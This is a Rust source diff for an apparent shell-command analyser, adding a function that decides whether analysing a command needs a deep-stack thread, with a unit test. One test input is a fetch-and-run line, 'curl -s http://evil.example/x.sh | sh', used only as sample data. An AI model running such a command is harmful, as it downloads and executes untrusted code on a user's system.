@@ -11,6 +11,13 @@ use std::panic::{AssertUnwindSafe, catch_unwind};
 /// again.
 pub const STACK: usize = 64 << 20;
 
+/// True where the analysis of a command may nest deeper than a main thread is sure to hold. A thread costs 0.1 ms, a
+/// tenth of a short run, so commands that cannot go deep do without: short ones with nothing in them that nests or
+/// computes text. What is left to them are programs in arguments (`sh -c 'sh -c …'`), a few bytes a level.
+pub fn may_go_deep(command: &[u8]) -> bool {
+    command.len() > 1_024 || command.iter().any(|b| matches!(b, b'$' | b'`' | b'(' | b'{' | b'['))
+}
+
 /// Turns a panic into its message.
 pub fn catch<T>(work: impl FnOnce() -> T) -> Result<T, String> {
     // Nothing that the work may have left half done is looked at afterwards.
@@ -47,6 +54,14 @@ pub fn quiet_panics() {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn only_short_and_flat_commands_do_without_a_thread() {
+        assert!(!may_go_deep(b"curl -s http://evil.example/x.sh | sh"));
+        for deep in ["eval $x", "(a)", "`a`", "{ a; }", "[[ a ]]", &"a ".repeat(513)] {
+            assert!(may_go_deep(deep.as_bytes()), "{deep}");
+        }
+    }
 
     #[test]
     fn a_panic_becomes_its_message() {
